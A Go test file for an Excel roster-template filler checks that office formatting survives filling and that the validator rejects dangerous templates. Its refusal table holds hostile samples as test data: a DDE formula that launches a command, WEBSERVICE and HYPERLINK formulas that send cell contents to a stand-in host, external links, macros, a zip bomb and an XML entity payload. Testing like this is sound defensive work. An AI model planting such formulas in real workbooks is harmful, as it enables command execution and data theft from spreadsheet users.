package excel

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"luudong/domain"
)

// officeBook is a workbook as an office would make it: own fonts, a merged
// cell, a sum below the row.
func officeBook(t *testing.T, change func(*excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	require.NoError(t, f.SetSheetName("Sheet1", "Danh sách ký"))
	style, err := f.NewStyle(&excelize.Style{Font: &excelize.Font{Family: "Arial", Size: 16, Bold: true, Color: "FF0000"}})
	require.NoError(t, err)
	require.NoError(t, f.SetCellStyle("Danh sách ký", "A1", "A1", style))
	require.NoError(t, f.SetCellStyle("Danh sách ký", "B5", "B5", style))
	require.NoError(t, f.MergeCell("Danh sách ký", "B5", "C5"))
	require.NoError(t, f.SetRowHeight("Danh sách ký", 5, 31))
	require.NoError(t, f.SetCellStr("Danh sách ký", "A7", "Ký tên"))
	require.NoError(t, f.SetCellFormula("Danh sách ký", "B7", "A1&\"!\""))
	for name, cell := range map[string]string{
		"ten_diem": "$A$1", "ngay": "$B$2", "so_nguoi": "$C$2:$C$2", "dong_stt": "$A$5", "Dong_Ho_Ten": "$B$5", "dong_ngay_sinh": "$D$5",
	} {
		require.NoError(t, f.SetDefinedName(&excelize.DefinedName{Name: name, RefersTo: "'Danh sách ký'!" + cell}))
	}
	if change != nil {
		change(f)
	}
	return bytesOf(t, f)
}

func officeFill(people ...int) domain.TemplateFill {
	fill := domain.TemplateFill{Kind: domain.TemplateRoster}
	for i, n := range people {
		s := domain.TemplateSheet{
			Name: fmt.Sprintf("SP%d", i+1),
			Once: map[string]any{"ten_diem": "=1+1", "ngay": domain.NewDate(2026, 12, 1), "so_nguoi": n, "doi": "Tổ 1"},
		}
		for k := range n {
			s.Rows = append(s.Rows, map[string]any{"dong_stt": k + 1, "dong_ho_ten": "Người " + fmt.Sprint(k+1), "dong_ngay_sinh": domain.NewDate(1990, 1, k+1)})
		}
		fill.Sheets = append(fill.Sheets, s)
	}
	return fill
}

func TestOfficeTemplateIsFilledAndKeepsItsLooks(t *testing.T) {
	data := officeBook(t, nil)
	fill := officeFill(3, 1, 0)
	fill.Footer = "huong.quanly 14:05"
	f := open(t, func(w io.Writer) error { return NewWriter().FillTemplate(w, data, fill) })
	require.Equal(t, []string{"SP1", "SP2", "SP3"}, f.GetSheetList())
	cell := func(sheet, at string) string {
		v, err := f.GetCellValue(sheet, at)
		require.NoError(t, err)
		return v
	}
	assert.Equal(t, []string{"=1+1", "01/12/2026", "3"}, []string{cell("SP1", "A1"), cell("SP1", "B2"), cell("SP1", "C2")})
	formula, err := f.GetCellFormula("SP1", "A1")
	require.NoError(t, err)
	assert.Empty(t, formula, "a text stays a text")
	assert.Equal(t, []string{"1", "Người 1", "01/01/1990"}, []string{cell("SP1", "A5"), cell("SP1", "B5"), cell("SP1", "D5")})
	assert.Equal(t, []string{"3", "Người 3", "03/01/1990", "Ký tên"}, []string{cell("SP1", "A7"), cell("SP1", "B7"), cell("SP1", "D7"), cell("SP1", "A9")})
	formula, err = f.GetCellFormula("SP1", "B9")
	require.NoError(t, err)
	assert.Equal(t, `A1&"!"`, formula, "the office's own formulas stay")
	for _, at := range []string{"A1", "B5", "B7"} {
		id, err := f.GetCellStyle("SP1", at)
		require.NoError(t, err)
		style, err := f.GetStyle(id)
		require.NoError(t, err)
		assert.Equal(t, []any{"Arial", 16.0, true}, []any{style.Font.Family, style.Font.Size, style.Font.Bold}, at)
	}
	height, err := f.GetRowHeight("SP1", 7)
	require.NoError(t, err)
	assert.InDelta(t, 31, height, 0.1)
	merged, err := f.GetMergeCells("SP1")
	require.NoError(t, err)
	assert.Len(t, merged, 3)
	assert.Equal(t, []string{"Người 1", "Ký tên"}, []string{cell("SP2", "B5"), cell("SP2", "A7")})
	assert.Equal(t, []string{"", "0", "Ký tên"}, []string{cell("SP3", "B5"), cell("SP3", "C2"), cell("SP3", "A7")})
	for _, sheet := range f.GetSheetList() {
		edges, err := f.GetHeaderFooter(sheet)
		require.NoError(t, err)
		assert.Contains(t, edges.OddFooter, "huong.quanly 14:05")
	}
	secondReader(t, saved(t, "filled.xlsx", func(w io.Writer) error { return NewWriter().FillTemplate(w, data, fill) }))
}

func TestOfficeTemplateOfManyPeople(t *testing.T) {
	f := open(t, func(w io.Writer) error { return NewWriter().FillTemplate(w, officeBook(t, nil), officeFill(28)) })
	rows, err := f.GetRows("Danh sách ký")
	require.NoError(t, err)
	assert.Equal(t, "Người 28", rows[4+27][1])
}

func TestSampleTemplatesAreTemplates(t *testing.T) {
	for _, kind := range domain.TemplateKinds() {
		var out bytes.Buffer
		require.NoError(t, NewWriter().WriteSampleTemplate(&out, kind))
		require.NoError(t, NewWriter().CheckTemplate(out.Bytes(), kind))
		for _, name := range kind.Names().Row {
			assert.NotEmpty(t, sampleCaptions[name], name)
		}
	}
}

// withPart adds a part to a workbook.
func withPart(t *testing.T, data []byte, name, content string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, part := range z.File {
		require.NoError(t, w.Copy(part))
	}
	p, err := w.Create(name)
	require.NoError(t, err)
	_, err = io.WriteString(p, content)
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return out.Bytes()
}

func TestTemplatesThatAreRefused(t *testing.T) {
	named := func(name, cell string) func(*excelize.File) {
		return func(f *excelize.File) {
			require.NoError(t, f.SetDefinedName(&excelize.DefinedName{Name: name, RefersTo: cell}))
		}
	}
	formula := func(text string) func(*excelize.File) {
		return func(f *excelize.File) { require.NoError(t, f.SetCellFormula("Danh sách ký", "F200", text)) }
	}
	good := officeBook(t, nil)
	var plain bytes.Buffer
	require.NoError(t, excelize.NewFile().Write(&plain))
	for name, c := range map[string]struct {
		data   []byte
		key    string
		fields []string
	}{
		"an unknown name":            {officeBook(t, named("ho_ten", "'Danh sách ký'!$F$9")), "template.names", []string{"ho_ten template.unknown_name"}},
		"two unknown names":          {officeBook(t, func(f *excelize.File) { named("x_1", "'Danh sách ký'!$F$9")(f); named("abc", "1+1")(f) }), "template.names", []string{"abc template.unknown_name", "x_1 template.unknown_name"}},
		"a range":                    {officeBook(t, named("doi", "'Danh sách ký'!$F$9:$G$9")), "template.names", []string{"doi template.not_a_cell"}},
		"a broken reference":         {officeBook(t, named("doi", "#REF!")), "template.names", []string{"doi template.not_a_cell"}},
		"a row in two places":        {officeBook(t, named("dong_dia_chi", "'Danh sách ký'!$F$9")), "template.names", []string{"dong_dia_chi template.other_row"}},
		"a name in the repeated row": {officeBook(t, named("doi", "'Danh sách ký'!$F$5")), "template.names", []string{"doi template.in_the_row"}},
		"another sheet":              {officeBook(t, func(f *excelize.File) { _, _ = f.NewSheet("B"); named("doi", "B!$A$1")(f) }), "template.names", []string{"doi template.other_sheet"}},
		"no names at all":            {plain.Bytes(), "template.no_row", nil},
		"macros":                     {withPart(t, good, "xl/vbaProject.bin", "x"), "template.macros", nil},
		"a link to another file":     {withPart(t, good, "xl/externalLinks/externalLink1.xml", "<x/>"), "template.active", nil},
		"an embedded object":         {withPart(t, good, "xl/embeddings/oleObject1.bin", "x"), "template.active", nil},
		"a zip bomb":                 {withPart(t, good, "xl/media/a.png", strings.Repeat("0", 21*megabyte)), "file.unpacked_too_big", nil},
		"an entity bomb":             {withPart(t, good, "xl/other.xml", `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`), "file.xlsx_broken", nil},
		"too big":                    {bytes.Repeat([]byte("x"), 3*megabyte), "template.too_big", nil},
		"no workbook":                {[]byte("a,b\n1,2\n"), "file.xlsx_broken", nil},
		"a formula that sends":       {officeBook(t, formula(`WEBSERVICE("http://x?"&A5)`)), "template.formula", nil},
		"a formula that runs":        {officeBook(t, formula(`cmd|' /C calc'!A0`)), "template.formula", nil},
		"a formula of another file":  {officeBook(t, formula(`[1]Sheet1!A1`)), "template.formula", nil},
		"a condition that sends": {officeBook(t, func(f *excelize.File) {
			format, err := f.NewConditionalStyle(&excelize.Style{})
			require.NoError(t, err)
			require.NoError(t, f.SetConditionalFormat("Danh sách ký", "Z400", []excelize.ConditionalFormatOptions{
				{Type: "formula", Criteria: `WEBSERVICE("http://x")=1`, Format: &format},
			}))
		}), "template.formula", nil},
		"a picture elsewhere": {withPart(t, good, "xl/drawings/_rels/drawing1.xml.rels",
			`<Relationships><Relationship Id="a" Type="x/image" Target="http://x" TargetMode="External"/></Relationships>`), "template.active", nil},
		"a link made from the people": {officeBook(t, formula(`HYPERLINK("http://x?"&B5)`)), "template.formula", nil},
	} {
		t.Run(name, func(t *testing.T) {
			err := NewWriter().CheckTemplate(c.data, domain.TemplateRoster)
			var e *domain.Error
			require.True(t, errors.As(err, &e), "%v", err)
			assert.Equal(t, domain.CodeInvalid, e.Code)
			assert.Equal(t, c.key, e.Key)
			var fields []string
			for _, f := range e.Fields {
				fields = append(fields, f.Column+" "+f.Key)
			}
			assert.Equal(t, c.fields, fields)
			assert.Error(t, NewWriter().FillTemplate(io.Discard, c.data, officeFill(1)), "nor filled")
		})
	}
}
